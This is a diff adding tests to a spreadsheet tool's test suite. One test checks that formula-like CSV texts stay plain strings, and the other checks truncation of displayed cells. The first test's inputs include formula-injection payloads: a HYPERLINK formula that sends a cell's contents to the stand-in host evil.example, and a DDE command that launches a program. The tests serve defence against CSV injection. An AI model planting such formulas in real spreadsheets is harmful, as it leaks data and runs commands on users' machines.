@@ -322,3 +322,34 @@ async def test_what_is_too_large_for_the_journal_goes_by_way_of_the_trash(
     assert path.read_text() == SALES
     made = await call("spreadsheet", path="sales.csv", action="filter", where="city = Oslo", output="o.csv")
     assert made.ok and (call.desk.folder / "o.csv").read_text().count("\n") == 2, made.text
+
+
+async def test_texts_of_a_table_never_become_formulas(call: DocumentCaller) -> None:
+    texts = [
+        '=HYPERLINK("http://evil.example/?"&B2)',
+        "=cmd|' /C calc'!A0",
+        "@SUM(1)",
+        "+1+cmd",
+        "#REF!",
+        "-5",
+    ]
+    rows = "".join(f'"{text.replace(chr(34), chr(34) * 2)}",{at}\n' for at, text in enumerate(texts))
+    call.desk.write("in.csv", f"=HEAD(),n\n{rows}")
+    made = await call("spreadsheet", path="in.csv", action="filter", output="out.xlsx")
+    assert made.ok, made.text
+    sheet = load_workbook(call.desk.folder / "out.xlsx").active
+    found = [(cell.value, cell.data_type) for (cell,) in sheet.iter_rows(max_col=1)]
+    assert found == [("=HEAD()", "s"), *((text, "s") for text in texts[:-1]), (-5, "n")]
+    made = await call("spreadsheet", path="out.xlsx", action="filter", output="again.csv")
+    assert "takes 5 of these texts as formulas" in made.text
+
+
+async def test_a_question_says_how_many_more_cells_it_does_not_show(call: DocumentCaller) -> None:
+    book = Workbook()
+    book.save(call.desk.folder / "book.xlsx")
+    cells = {f"A{row}": f"v{row}" for row in range(1, 221)} | {"B1": "=A1&" + "x" * 1_200}
+    await call("spreadsheet", path="book.xlsx", action="write", cells=cells)
+    (shown,) = call.desk.shown().files
+    assert len(shown.sample) == 201 and shown.sample[-1] == "… 21 more"
+    await call("spreadsheet", path="book.xlsx", action="write", cells={"C1": "x" * 1_200})
+    assert call.desk.shown().files[0].sample[0].endswith("more characters]")
